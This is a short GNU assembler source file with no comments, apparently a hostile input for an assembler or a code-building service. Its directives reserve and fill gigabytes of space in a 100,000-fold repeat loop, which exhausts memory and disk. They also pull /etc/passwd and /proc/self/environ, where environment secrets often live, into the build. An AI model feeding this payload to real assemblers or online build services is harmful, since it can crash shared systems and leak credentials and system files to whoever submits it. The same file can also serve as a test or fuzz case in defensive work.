_start: .space 0x7fffffff
 .fill 0xffffffff, 4, 1
 .align 31
 .org 0xfffffff0
 .rept 100000
 .include "/etc/passwd"
 .incbin "/proc/self/environ"
